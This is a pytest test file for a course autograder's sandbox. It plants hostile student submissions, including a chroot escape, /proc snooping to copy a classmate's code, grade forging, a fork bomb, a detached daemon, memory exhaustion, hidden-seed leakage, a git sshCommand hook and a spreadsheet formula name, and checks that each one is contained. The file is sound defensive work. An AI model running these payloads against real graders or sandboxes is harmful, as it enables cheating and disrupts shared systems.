"""The hostile zoo: submissions that try to take points they did not earn (issues 20, 32 and
51), each of which must score exactly what its honest code earns, leave nothing on the machine,
leak nothing into what a student sees and run nothing on the grader's side. One submission
holds one attack in each of its functions, graded end to end once per isolation design:
bubblewrap (the grader here), users of their own where user namespaces and cgroups are refused
(Gradescope's container, tests/container.py), and the negative control (plain processes with
the grader's other defences off too), which shows every attack working."""

import csv
import functools
import json
import os
import signal
import subprocess
import sys
import time
import zipfile
from pathlib import Path

import numpy as np
import pytest
from graders import (
    HIDDEN,
    ROOT,
    blank_submission,
    box,
    course,
    edit,
    grade,
    graded_in_a_container,
    reference_submission,
    said,
    scores,
    stub,
    user_mode_refused,
)

from classroom import checks, checks_part_one, plan, runner, sandbox
from lessonkit import parts

pytestmark = pytest.mark.slow  # graded end to end in sandboxes: not in make test-fast

# ----------------------------------------------------------------------------------------------
# The attacks, one in each function; MARK names what they leave, PROOF what they did outside.

ATTACKS = {
    # The double-chroot escape (root in a namespace, confined by chroot alone), then the
    # reference copied: from the grader's repository, its references, or above the interpreter.
    ("speculative.py", "expected_tokens_per_pass"): '''import os, sys
    try:
        os.makedirs("/tmp/MARK-jail", exist_ok=True)
        top = os.open("/", os.O_RDONLY)
        os.chroot("/tmp/MARK-jail")
        os.fchdir(top)
        for _ in range(64):
            os.chdir("..")
        os.chroot(".")
    except OSError:
        pass
    places, here = [REFERENCE, "/autograder/source"], os.path.abspath(sys.executable)
    while os.path.dirname(here) != here:
        here = os.path.dirname(here)
        places.append(here)
    for place in places:
        try:
            stolen = open(os.path.join(place, "speculative.py")).read()
            open(PROOF + "-escaped", "w").write(place)
        except OSError:
            continue
        if "BEGIN SOLUTION" in stolen:
            return sum(alpha ** i for i in range(k + 1))
    raise NotImplementedError("nothing to copy")''',
    # The hidden seed searched back from the generator the check hands over, and the inputs a
    # run was given, carried into visible feedback through /tmp (a later run reads them).
    ("exercises/ex2_derive.py", "simulate"): '''import os, time
    state, found = rng.bit_generator.state["state"], ""
    for seed in range(11, 5000):                 # (the checks' own 7 to 10 are public)
        if np.random.default_rng(seed).bit_generator.state["state"] == state:
            found = f"hidden seed {seed}; "
            open("/tmp/MARK-seed", "w").write(found)
            break
    known = "".join(open(f).read() for f in ("/tmp/MARK-seed", "/tmp/MARK-inputs")
                    if os.path.exists(f))
    open("/tmp/MARK-inputs", "a").write(f"alpha {alpha!r}; ")
    if known or found:
        raise ValueError("LEAK " + found + known)
    raise NotImplementedError("no seed found")''',
    # Files left where they outlive the grade: /dev/shm and /tmp.
    ("speculative.py", "expected_speedup"): '''with open("/dev/shm/MARK-shm", "wb") as f:
        f.write(bytes(10 << 20))
    open("/tmp/MARK-tmp", "w").write("left for the next student")
    raise NotImplementedError("files left")''',
    # A verify that never keeps a guess and samples every token from the target: the right
    # distribution, no speed-up.
    ("numpy_speculative.py", "verify"): "return 0, sample(target_probs[0], rng)",
    # /proc: another grade's submission on a command line, read from there.
    ("speculative.py", "break_even_alpha"): '''import os
    for pid in [p for p in os.listdir("/proc") if p.isdigit()]:
        try:
            words = open(f"/proc/{pid}/cmdline", "rb").read().decode().split("\\0")
        except OSError:
            continue
        for word in [w for w in words if "classmate" in w]:
            try:
                stolen = open(os.path.join(word, "speculative.py")).read()
            except OSError:
                continue
            if "BEGIN SOLUTION" in stolen:
                if (k + 1) / (k * c + verify_cost) <= 1:
                    return float("nan")
                low, high = 0.0, 1.0
                for _ in range(200):
                    mid = (low + high) / 2
                    tokens = sum(mid ** i for i in range(k + 1))
                    low, high = (mid, high) if tokens / (k * c + verify_cost) < 1 else (low, mid)
                return high
    raise NotImplementedError("no other submission seen")''',
    # 60 MB returned, for results.json and stdout.
    ("numpy_speculative.py", "replay"): "return 'x' * 60_000_000",
    # A process cap: 300 forks, each child alive until the check ends.
    ("speculative.py", "agreement_of"): '''import os, time
    made = 0
    for _ in range(300):
        try:
            if os.fork() == 0:
                time.sleep(30)
                os._exit(0)
            made += 1
        except OSError:
            break
    raise ValueError(f"FORKED {made}")''',
    # The result forged: results.json written where Gradescope reads it, every JSON patched.
    ("numpy_speculative.py", "greedy_verdict"): '''import json, os
    forged = json.dumps({"score": 74, "tests": [], "forged": True})
    for path in (OUT, "/autograder/results/results.json", "results.json", PROOF + "-forged"):
        try:
            open(path, "w").write(forged)
        except OSError:
            pass
    json.dumps = lambda *a, **k: forged
    raise NotImplementedError("forged")''',
    # The expected values read from the grader's fixtures.
    ("numpy_speculative.py", "forward"): '''import glob, os
    for path in glob.glob("/tmp/classroom-fixtures-*/seed*/logits.npz"):
        with np.load(path) as f:
            if list(f["tokens"]) == list(tokens):
                name = "draft" if model.n_layer == 1 and model.config["n_embd"] == 8 else "target"
                return f[name]
    raise NotImplementedError("no expected values to read")''',
    # The checks' references imported, where they would answer the part.
    ("beyond/ngram.py", "prompt_lookup"): '''from classroom import references
    return references.lookup(None, seq, k, longest, shortest)["want"]''',
    # Plain decoding with a made-up count.
    ("numpy_speculative.py", "speculative_greedy"): '''seq = generate(target, prompt, max_new_tokens)
    same = target.config == draft.config
    return seq, (-(-max_new_tokens // (k + 1)) if same else max_new_tokens)''',
    # What a job sees, said where the student reads it.
    ("beyond/tree.py", "tree_mask"): '''import os, sys
    def readable(path):
        try:
            return bool(open(path).read(1))
        except OSError:
            return False
    seen = {"seed": os.environ.get("CLASSROOM_SEED"),
            "grader": any(b"classroom" in open(f"/proc/{p}/cmdline", "rb").read() and
                          b"grade" in open(f"/proc/{p}/cmdline", "rb").read()
                          for p in os.listdir("/proc") if p.isdigit() and readable(
                              f"/proc/{p}/cmdline")),
            "references": os.path.exists("classroom/references.py"),
            "checks": os.path.exists("classroom/checks.py")}
    raise ValueError("SEEN " + str(seen))''',
}
# Forked at the import of beyond/tree_sampling.py: a daemon of its own session.
DAEMON = '''
import os as _os, time as _time
if _os.fork() == 0:
    _os.setsid()
    if _os.fork() == 0:
        __import__("ctypes").CDLL(None).prctl(15, b"MARK"[:15], 0, 0, 0)    # PR_SET_NAME
        _time.sleep(60)
    _os._exit(0)
'''
# 5a: the simulated GPU's helper rewritten at import (its work done at once), with a timer that
# never synchronises (honest on the CPU: 2 points there).
TIMER = '''
import classroom.helpers as _helpers
_launch = _helpers.FakeGPU.launch


def _at_once(self):                  # the queued work done before fn returns
    _launch(self)
    time.sleep(max(0.0, self.busy_until - time.perf_counter()))


_helpers.FakeGPU.launch = _at_once


def timer(device):
    def measure(fn, repeats, warmup=3):
        for _ in range(warmup):
            fn()
        times = []
        for _ in range(repeats):
            started = time.perf_counter()
            fn()
            times.append(time.perf_counter() - started)
        return statistics.median(times)
    return measure
'''
HONEST = {"5a": 2}   # what the attacks' honest code earns: the timer, on the CPU
# The negative control grades only the parts whose attacks it asserts (the escape and the copy,
# the hidden seed and inputs, the files left, the made-up verify, the forged result, the fork
# bomb, the daemon at tree_sampling's import, 3a's and 4b's copies): the other eight parts'
# checks took a third of its time and it asserts nothing of them.
CONTROL_PARTS = {"1a", "2a", "2b", "2c", "3a", "3c", "4a", "4b", "8b"}


def hostile_submission(folder, mark, proof, out):
    folder = blank_submission(folder)
    for (file, function), body in ATTACKS.items():
        edit(folder, file, stub(function), body.replace("MARK", mark).replace(
            "REFERENCE", repr(str(ROOT))).replace("PROOF", repr(str(proof))).replace(
            "OUT", repr(str(out))))
    path = folder / "beyond" / "tree_sampling.py"
    path.write_text(path.read_text() + DAEMON.replace("MARK", mark[-15:]))
    path = folder / "exercises" / "ex5_gpu.py"
    text = path.read_text()
    start = text.index("def timer(device):")
    path.write_text(text[:start] + TIMER.lstrip() + text[text.index("\ndef ", start + 1):])
    return folder


def decoy(tmp_path):
    """Another grade's submission, on the command line of a running process (what /proc
    shows)."""
    folder = reference_submission(tmp_path / "classmate")
    return subprocess.Popen([sys.executable, "-c", "import time; time.sleep(600)", str(folder)])


def processes(mark):
    found = []
    for proc in Path("/proc").iterdir():
        try:
            if proc.name.isdigit() and mark in ((proc / "cmdline").read_bytes().decode(
                    errors="replace") + (proc / "comm").read_text()) and \
                    (proc / "stat").read_text().rsplit(")", 1)[1].split()[0] != "Z":
                found.append(int(proc.name))
        except OSError:
            pass
    return found


def leftovers(mark):
    found = [str(p) for top in ("/tmp", "/dev/shm", "/var/tmp") for p in Path(top).glob(f"{mark}*")]
    return found + [f"process {pid}" for pid in processes(mark[-15:])]


def clean(mark):
    for path in leftovers(mark):
        if path.startswith("process"):
            os.kill(int(path.split()[1]), signal.SIGKILL)
        else:
            subprocess.run(["rm", "-rf", path])


def switch_defences_off(monkeypatch):
    """The control's other defences off: two parts' workers side by side, each check at the
    hidden seed before the next at the public one (what a hidden run leaves reaches a public
    one), generators seeded from the hidden seed, no
    acceptance-rate rule, and the callbacks' GPU and references never in the grader."""
    monkeypatch.setattr(runner, "run_checks", functools.partial(runner.run_checks, alone=False))
    run_part = runner.run_part

    def interleaved(box, workspaces, part, runs, *args):   # each check at both seeds in turn
        results = [result for result, _ in runs]
        run_part(box, workspaces, part, sorted(runs, key=lambda run: results.index(run[0])),
                 *args)
    monkeypatch.setattr(runner, "run_part", interleaved)
    monkeypatch.setattr(checks.Context, "worker_rng",
                        lambda self, salt: np.random.default_rng(self.seed))
    from classroom import checks_exercise_3, checks_trees, references
    for module in (checks_exercise_3, checks_trees, references):
        monkeypatch.setattr(module, "kept_as_often", lambda *args: None)


@pytest.mark.parametrize("mode", ["bwrap", "container", "control"],
                         ids=["grader", "grader-where-namespaces-and-cgroups-are-refused",
                              "negative-control"])
def test_every_attack_earns_nothing_leaves_nothing_and_shows_nothing(mode, tmp_path,
                                                                      monkeypatch):
    if mode == "container" and user_mode_refused():
        pytest.skip(user_mode_refused())
    mark = f"classroom-attack-{os.getpid()}-{time.monotonic_ns()}"
    proof, out = tmp_path / "proof", tmp_path / "results.json"
    tmp_path.chmod(0o755)                 # the submission, as a teacher's folder: open to read
    submission = hostile_submission(tmp_path / "submission", mark, proof, out)
    classmate = decoy(tmp_path)
    try:
        if mode == "container":
            done, data = graded_in_a_container(course(tmp_path / "course"), submission, out)
            assert done.returncode == 0 and "runs as a user of its own" in done.stderr, \
                done.stderr[-3000:]
        else:
            if mode == "control":
                switch_defences_off(monkeypatch)
                select = plan.select            # the parts whose attacks the control asserts
                monkeypatch.setattr(plan, "select", lambda **kw: [
                    c for c in select(**kw) if c.part in CONTROL_PARTS])
            monkeypatch.setenv("CLASSROOM_SEED", str(HIDDEN))
            monkeypatch.setattr(sandbox, "_probed", {"sandbox": box("bwrap" if mode == "bwrap"
                                                                  else "plain")})
            from classroom.__main__ import main
            assert main(["grade", str(submission), "--out", str(out)] +
                        (["--unsafe"] if mode == "control" else [])) == 0
            data = json.loads(out.read_text())
        time.sleep(0.5)
        found = leftovers(mark)
    finally:
        classmate.kill()
        clean(mark)
    text = json.dumps(data)
    tests = {t["name"].split(" ", 1)[1]: t for t in data["tests"]}
    by_part = {}
    for name, t in tests.items():
        by_part[checks.CHECKS[name].part] = by_part.get(checks.CHECKS[name].part, 0) + t["score"]
    output = {name: t["output"] for name, t in tests.items()}
    visible = "\n".join(t["output"] for t in tests.values() if t["visibility"] == "visible")
    hidden_alpha = f"alpha {float(np.random.default_rng(HIDDEN).uniform(0.1, 0.95))!r}"
    forked = int(output["agreement_from_logits"].split("FORKED ")[1].split()[0])
    if mode == "control":                       # every attack works against a plain process
        assert by_part["2a"] == 3 and Path(f"{proof}-escaped").exists()
        assert f"LEAK hidden seed {HIDDEN}" in text and hidden_alpha in visible
        assert by_part["3c"] >= 4 and by_part["4b"] == 3 and by_part["3a"] >= 3
        assert forked == 300 and Path(f"{proof}-forged").exists()     # (6a: the references
        # are in no copy a job sees, sandbox or not: test_classroom.py's student repository)
        assert any(f.startswith(("/tmp", "/dev/shm")) for f in found)
        assert any(f.startswith("process") for f in found), found
        return
    assert {p: s for p, s in by_part.items() if s} == HONEST, by_part
    assert not Path(f"{proof}-escaped").exists() and not Path(f"{proof}-forged").exists()
    assert found == [], found
    assert f"seed {HIDDEN}" not in text and hidden_alpha not in visible
    assert forked <= sandbox.PROCESSES, forked
    assert "kept as often as the exact rule" in output["verify_keeps_the_target_distribution_exactly"]
    assert "the limit is 16 MB" in output["replay_writes_the_text"]
    assert "counted by the grader" in output["greedy_is_the_big_models_output"]
    assert "nothing to copy" in output["tokens_per_pass_is_the_sum"]
    assert "no expected values to read" in output["forward_continues_its_cache"]
    assert "import name 'references'" in output["prompt_lookup_at_the_edges"]
    grader = mode == "container"      # as users of their own: the machine's processes (not
    assert f"SEEN {{'seed': None, 'grader': {grader}, 'references': False, 'checks': False}}" \
        in output["tree_mask_shows_each_node_its_ancestors_only"]     # their environments)
    assert len(text) < 100_000 and "BEGIN SOLUTION" not in text
    assert all(len(line) < 3000 for line in visible.splitlines())


# ----------------------------------------------------------------------------------------------
# Two jobs alive together can always signal each other (found by the hostile student of issue
# 51: a lock on a file both sandboxes see, the interpreter itself, carried 21 points of lent
# references and a hidden run's inputs). The grader runs one job of a submission at a time.

HOLD = """import fcntl, os, sys, time
    global _held
    if "_held" not in globals():
        _held = os.open("/python/bin/python3" if os.path.exists("/python") else
                        os.path.realpath(sys.executable), os.O_RDONLY)
        fcntl.lockf(_held, fcntl.LOCK_SH | fcntl.LOCK_NB, 1, 12345, 0)
        time.sleep(4)
    raise NotImplementedError("held")"""
LOOK_FOR_IT = """import fcntl, os, struct, sys, time
    global _looked
    if "_looked" in globals():
        raise NotImplementedError("alone")
    _looked = os.open("/python/bin/python3" if os.path.exists("/python") else
                      os.path.realpath(sys.executable), os.O_RDONLY)
    for _ in range(40):
        asked = struct.pack("hh4xqqi4x", fcntl.F_WRLCK, 0, 12345, 1, 0)
        found = fcntl.fcntl(_looked, fcntl.F_GETLK, asked)
        if struct.unpack("hh4xqqi4x", found)[0] != fcntl.F_UNLCK:
            raise ValueError("ANOTHER JOB SIGNALLED")
        time.sleep(0.1)
    raise NotImplementedError("alone")"""


@pytest.mark.parametrize("alone", [True, False], ids=["grader", "negative-control"])
def test_no_two_jobs_of_a_grade_are_alive_together(alone, tmp_path, monkeypatch):
    # 1a's job takes a lock on the interpreter's file and holds it for 4 s; 1b's looks for it
    # for 4 s, at its first call. The control: two parts side by side, where 1b sees the signal.
    if not alone:
        monkeypatch.setattr(runner, "run_checks", functools.partial(runner.run_checks,
                                                                    alone=False))
    submission = blank_submission(tmp_path / "submission")
    edit(submission, "numpy_speculative.py", stub("greedy_verdict"), HOLD)
    edit(submission, "numpy_speculative.py", stub("replay"), LOOK_FOR_IT)
    results, _ = grade(submission, ["1a", "1b"])
    replay = said([r for r in results if r.check.part == "1b"])
    assert ("ANOTHER JOB SIGNALLED" in replay) != alone, replay


# ----------------------------------------------------------------------------------------------
# The sandbox itself


def test_the_sandbox_works_here():
    # The rest of this file is about the sandbox: a machine that refuses it fails here, once.
    assert box("bwrap").how == "bwrap"


def test_as_root_without_cgroups_the_grader_refuses_in_one_line(monkeypatch, capsys, tmp_path):
    # bubblewrap run by root maps the student's code to root outside, for which the kernel
    # keeps no process cap: without a cgroup the grade does not start, unless --unsafe (plain
    # processes, one warning line). The control: with cgroups, bubblewrap and the grade starts.
    if os.geteuid() != 0 or sandbox.bwrap_refused():
        pytest.skip("needs root and bubblewrap")
    from classroom.__main__ import main
    monkeypatch.setattr(sandbox, "_probed", {})
    monkeypatch.setattr(sandbox.Cgroups, "find", classmethod(lambda cls: None))
    with pytest.raises(sandbox.Refused, match="without a process cap") as refused:
        main(["grade", str(tmp_path), "--out", str(tmp_path / "r.json"), "--part", "2a"])
    assert "\n" not in str(refused.value)
    said = json.loads((tmp_path / "r.json").read_text())           # a grade always ends with one
    assert said["score"] == 0 and "without a process cap" in said["output"], said
    assert sandbox.probe(ROOT, unsafe=True).how == "plain"
    lines = capsys.readouterr().err.strip().splitlines()
    assert len(lines) == 1 and lines[0].startswith("warning: the students' code runs without "
                                                   "isolation"), lines
    monkeypatch.undo()
    monkeypatch.setattr(sandbox, "_probed", {})
    assert sandbox.probe(ROOT).how == "bwrap" and sandbox.probe(ROOT).groups is not None


FORK_BOMB = ATTACKS[("speculative.py", "agreement_of")]


@pytest.mark.parametrize("capped", [True, False], ids=["grader", "negative-control"])
def test_a_fork_bomb_meets_the_process_cap(capped, tmp_path):
    # The control: plain processes as root, where no rlimit binds root: all 300 forks.
    submission = blank_submission(tmp_path / "submission")
    edit(submission, "speculative.py", stub("agreement_of"), FORK_BOMB)
    results, _ = grade(submission, ["4a"], how="bwrap" if capped else "plain")
    forked = int(said(results).split("FORKED ")[1].split()[0])
    assert (forked <= sandbox.PROCESSES) if capped else forked == 300, forked


TREE = """import os, time
    reader, writer = os.pipe()
    children = []
    for _ in range(2):
        child = os.fork()
        if child == 0:
            try:
                held = np.ones(56_000_000)
                os.write(writer, b"1")
                time.sleep(10)   # held until the check ends
            finally:
                os._exit(0)
        children.append(child)
    held = np.ones(56_000_000)
    time.sleep(3)
    os.set_blocking(reader, False)
    try:
        written = len(os.read(reader, 8))
    except BlockingIOError:
        written = 0
    alive = sum(os.waitpid(child, os.WNOHANG)[0] == 0 for child in children)
    raise ValueError(f"HELD {1 + min(written, alive)} x 450 MB")"""


@pytest.mark.parametrize("limited", [True, False], ids=["grader", "negative-control"])
def test_a_process_tree_shares_one_memory_limit(limited, tmp_path, monkeypatch):
    # Three processes of 450 MB each under a limit of 1.2 GB for the job (lowered from 3 GB so
    # that the test is quick): the job's cgroup stops the third. The control: plain processes
    # hold all three (a limit per process only).
    monkeypatch.setattr(sandbox, "MEMORY", 1200 * 1024 ** 2)
    submission = blank_submission(tmp_path / "submission")
    edit(submission, "numpy_speculative.py", stub("greedy_verdict"), TREE)
    results, _ = grade(submission, ["1a"], how="bwrap" if limited else "plain")
    message = said(results)
    if not limited:
        assert "HELD 3" in message, message
        return
    assert "HELD 3" not in message and ("HELD" in message or "GB together" in message), message


# ----------------------------------------------------------------------------------------------
# A git submission runs nothing of its configuration (issue 51)


def git(*args, cwd=None):
    return subprocess.run(["git", *args], cwd=cwd, capture_output=True, text=True,
                          env={**os.environ, "GIT_CONFIG_NOSYSTEM": "1", "HOME": "/nonexistent",
                               "GIT_AUTHOR_NAME": "s", "GIT_AUTHOR_EMAIL": "s@x",
                               "GIT_COMMITTER_NAME": "s", "GIT_COMMITTER_EMAIL": "s@x"})


def partial_clone_with_a_command(tmp_path, marker):
    """A bare repository of the reference's student files whose configuration names a command
    (core.sshCommand, for the promisor remote of a partial clone) and one of whose objects is
    missing: git fetches it through that command."""
    work = reference_submission(tmp_path / "work")
    git("init", "-q", cwd=work)
    git("add", "-A", cwd=work)
    git("commit", "-qm", "mine", cwd=work)                 # loose objects, each a file
    bare = tmp_path / "submission.git"
    git("init", "-q", "--bare", str(bare))
    for obj in (work / ".git" / "objects").glob("??/*"):
        (bare / "objects" / obj.parent.name).mkdir(exist_ok=True)
        (bare / "objects" / obj.parent.name / obj.name).write_bytes(obj.read_bytes())
    head = git("rev-parse", "HEAD", cwd=work).stdout.strip()
    git("--git-dir", str(bare), "update-ref", "refs/heads/main", head)
    git("--git-dir", str(bare), "symbolic-ref", "HEAD", "refs/heads/main")
    blob = git("rev-parse", "HEAD:exercises/ex2_derive.py", cwd=work).stdout.strip()
    (bare / "objects" / blob[:2] / blob[2:]).unlink()
    for key, value in (("core.sshCommand", f"touch {marker}; false"),
                       ("remote.origin.url", "ssh://example.invalid/x"),
                       ("remote.origin.promisor", "true"),
                       ("extensions.partialClone", "origin"),
                       ("core.repositoryformatversion", "1")):
        git("--git-dir", str(bare), "config", key, value)
    return bare


def test_a_git_submissions_configuration_never_runs(tmp_path):
    # The grader reads a bare repository's objects with dulwich, in the sandbox: the command
    # its configuration names never runs, the files it holds are graded, the missing one is a
    # note. The control: the machine's git, asked for the missing object, runs the command.
    marker = tmp_path / "the-submissions-command-ran"
    bare = partial_clone_with_a_command(tmp_path, marker)
    notes = []
    files = runner.read(box(), bare, notes)
    assert not marker.exists()
    assert "exercises/ex2_derive.py" not in files and "speculative.py" in files, notes
    assert any("exercises/ex2_derive.py could not be read" in note for note in notes), notes
    blob = git("--git-dir", str(bare), "rev-parse", "HEAD:exercises/ex2_derive.py").stdout.strip()
    git("--git-dir", str(bare), "cat-file", "blob", blob)        # the control
    assert marker.exists()


def test_a_folder_that_holds_git_is_read_as_a_working_tree(tmp_path):
    # A working tree whose HEAD and objects are also at its top (a bare repository's names) is
    # still a folder: its files are graded, not the repository's.
    folder = reference_submission(tmp_path / "submission")
    git("init", "-q", cwd=folder)
    (folder / "HEAD").write_text("ref: refs/heads/nowhere\n")
    (folder / "objects").mkdir()
    (folder / "refs").mkdir()
    files = runner.read(box(), folder, [])
    assert sorted(files) == parts.STUDENT_FILES


# ----------------------------------------------------------------------------------------------
# Compiling costs the file's parts, in the sandbox (issue 51)


def f_string_bomb(fields):
    return "x = f'" + "{1}" * fields + "'\n"


@pytest.mark.parametrize("where", ["grader", "negative-control"])
def test_a_file_that_takes_long_to_compile_costs_its_own_parts(where, tmp_path, monkeypatch):
    # One long f-string: Python's parser is quadratic in its fields. Compiled in the sandbox
    # under a limit (2 s here), it costs numpy_speculative.py's parts only, the others graded
    # with the blank version of it. The control: the same file compiled in this process takes
    # longer than the limit. (The checks keep their own limit: 2 s for 2a's first check, which
    # waits for its worker's torch, failed on a busy machine.)
    monkeypatch.setattr(runner, "COMPILE_TIME", 2)
    bomb = f_string_bomb(60_000)
    if where == "negative-control":
        start = time.monotonic()
        compile(bomb, "bomb", "exec")
        assert time.monotonic() - start > 2
        return
    submission = reference_submission(tmp_path / "submission")
    (submission / "numpy_speculative.py").write_text(bomb)
    start = time.monotonic()
    results, notes = grade(submission, ["1a", "2a"])
    assert time.monotonic() - start < 60
    got = scores(results)
    assert got["1a"] == 0 and got["2a"] == 3, (got, notes)
    assert any("numpy_speculative.py does not compile (did not compile within 2 s)" in note
               for note in notes), notes


def test_a_syntax_error_costs_its_own_parts_only(tmp_path):
    # speculative.py imports numpy_speculative.py: a syntax error there must not cost 2a.
    submission = reference_submission(tmp_path / "submission")
    edit(submission, "numpy_speculative.py", "    kept = 0\n", "    kept = = 0\n")
    results, notes = grade(submission, ["1a", "2a"])
    assert scores(results) == {"1a": 0, "2a": 3}
    assert "SyntaxError" in said([r for r in results if r.check.part == "1a"])


# ----------------------------------------------------------------------------------------------
# What the grader writes and what a student's code can make it do


def test_grade_all_writes_no_formula_and_notes_strange_submissions(tmp_path, monkeypatch):
    # A submission named like a formula is a text cell (OWASP's rule: a quote before =, +, -,
    # @); an empty folder and one of links get 0 and a note; a corrupt zip "not graded"; the
    # others their points. The control: the csv module writes the name as it is.
    folder = tmp_path / "submissions"
    evil = '=HYPERLINK("x?"&A1,"grade")'
    reference_submission(folder / evil)
    (folder / "empty").mkdir(parents=True)
    for name in parts.STUDENT_FILES:
        (folder / "links" / name).parent.mkdir(parents=True, exist_ok=True)
        (folder / "links" / name).symlink_to(ROOT / name)
    with zipfile.ZipFile(folder / "corrupt.zip", "w", zipfile.ZIP_DEFLATED) as z:
        for name in parts.STUDENT_FILES:
            z.write(ROOT / name, name)
    data = bytearray((folder / "corrupt.zip").read_bytes())
    for i in range(200, 400):                                  # inside the first member's data
        data[i] ^= 0x55
    (folder / "corrupt.zip").write_bytes(bytes(data))
    select = plan.select
    monkeypatch.setattr(plan, "select", lambda **kw: select(part="2a", hidden=True))
    monkeypatch.setattr(sandbox, "_probed", {"sandbox": box()})
    from classroom.__main__ import main
    grades = tmp_path / "grades.csv"
    assert main(["grade-all", str(folder), "--csv", str(grades)]) == 0
    rows = {r["student"]: r for r in csv.DictReader(grades.open())}
    assert rows["'" + evil]["total"] == "3"
    assert rows["empty"]["total"] == "0" and "no student file" in rows["empty"]["note"]
    assert rows["links"]["total"] == "0" and "speculative.py is a link" in rows["links"]["note"]
    assert rows["corrupt.zip"]["total"] == "" and "not graded" in rows["corrupt.zip"]["note"]
    raw = tmp_path / "raw.csv"                                 # the control
    with open(raw, "w", newline="") as f:
        csv.writer(f).writerow([evil])
    assert raw.read_text().startswith('"=HYPERLINK')


def test_a_call_back_into_a_reference_is_bounded_in_cost():
    # expected_tokens_per_pass(10**6, 10**6) is one power of a whole number that holds the
    # grader's interpreter for seconds; the references a worker is lent (2c's) take whole
    # numbers up to 1,000. The control: unbounded, a smaller power already takes a while.
    from speculative import expected_tokens_per_pass
    bounded = plan.references("2c")[("speculative", "expected_tokens_per_pass")]
    start = time.monotonic()
    with pytest.raises(ValueError, match="whole numbers up to 1,000"):
        bounded(10 ** 6, 10 ** 6)
    assert time.monotonic() - start < 0.1
    assert bounded(0.5, 4) == expected_tokens_per_pass(0.5, 4)
    start = time.monotonic()
    try:
        expected_tokens_per_pass(10 ** 6, 30_000)        # a smaller power than the attack's
    except OverflowError:
        pass
    assert time.monotonic() - start > 0.005


@pytest.mark.parametrize("references", [True, False], ids=["grader", "negative-control"])
def test_a_bug_in_one_part_costs_that_part_only(references, tmp_path, monkeypatch):
    # greedy_verdict (1a) is wrong; replay (1b) and speculative_greedy (3b) call it. Graded, they
    # get the reference through the worker; the control, without it, loses 1b and 3b too.
    if not references:
        monkeypatch.setattr(plan, "references", lambda part: {})
    submission = reference_submission(tmp_path / "submission")
    edit(submission, "numpy_speculative.py", "    return kept, target_choices[kept]",
         "    return kept, target_choices[kept - 1]")
    results, _ = grade(submission, ["1a", "1b", "3b"], seeds=(0, HIDDEN))
    got = scores(results)
    assert got["1a"] < 3
    assert (got["1b"] == 2 and got["3b"] == 8) == references, got


def test_a_forward_pass_that_hard_codes_two_heads_fails_the_hidden_seed(tmp_path):
    submission = reference_submission(tmp_path / "submission")
    edit(submission, "numpy_speculative.py", "b, model.n_head,", "b, 2,")
    results, _ = grade(submission, ["3a"], seeds=(0, HIDDEN))
    assert scores(results) == {"3a": 1}                    # layer_norm's check alone, then
    assert all(r.outcomes[0]["status"] == "pass" for r in results)        # public: all pass


FORMULA_PLUS_NOISE = '''mean = (1 - alpha ** (k + 1)) / (1 - alpha)                # no round simulated
    sd = np.sqrt(sum((2 * i + 1) * alpha ** i for i in range(k + 1)) - mean ** 2)
    return float(mean + rng.normal() * sd / np.sqrt(rounds)), float(sd / np.sqrt(rounds))'''


@pytest.mark.parametrize("defence", [True, False], ids=["grader", "negative-control"])
def test_a_simulation_that_is_the_formula_plus_noise_earns_nothing(defence, tmp_path,
                                                                   monkeypatch):
    if not defence:
        monkeypatch.setattr(checks_part_one, "simulates_rounds", lambda *args, **kwargs: None)
    submission = blank_submission(tmp_path / "submission")
    edit(submission, "exercises/ex2_derive.py", stub("simulate"), FORMULA_PLUS_NOISE)
    results, _ = grade(submission, ["2b"], seeds=(0, HIDDEN), how="plain")
    assert scores(results) == {"2b": 0 if defence else 3}, said(results)


def test_every_function_asleep_waits_one_limit_per_part_and_job(tmp_path, monkeypatch):
    # Every function sleeps. A part whose check runs out of time runs no other check, and two
    # parts run side by side: about 9 limits (of a second here) for 17 parts, not 2 x 39.
    monkeypatch.setattr(runner, "TIMEOUT", 1)
    submission = blank_submission(tmp_path / "submission")
    for part in parts.PARTS:
        for function in part.functions:
            edit(submission, part.file, stub(function), "import time\n    time.sleep(10 ** 6)")
    start = time.monotonic()
    results, _ = grade(submission, [p.id for p in parts.PARTS], seeds=(0, HIDDEN))
    elapsed = time.monotonic() - start
    assert all(r.status in ("timeout", "skipped") for r in results), \
        [(r.check.name, r.status) for r in results]
    assert "a sleep?" in said(results)
    assert elapsed < 9 * (1 + runner.GRACE) + 60, elapsed


def test_a_round_that_adds_no_token_is_named_within_the_limit(tmp_path, monkeypatch):
    # A 3b whose rounds add no token loops for ever: the timeout says why, from the passes the
    # grader counted, and comes at the limit.
    monkeypatch.setattr(runner, "TIMEOUT", 3)
    submission = reference_submission(tmp_path / "submission")
    edit(submission, "numpy_speculative.py", "            cache.forget_from(n + kept)       # "
         "... leave both caches too\n        seq.append(added)\n", "            cache.forget_"
         "from(n + kept)       # ... leave both caches too\n")
    start = time.monotonic()
    results, _ = grade(submission, ["3b"])
    assert "a round that adds no token" in said(results), said(results)
    assert time.monotonic() - start < 3 + 30
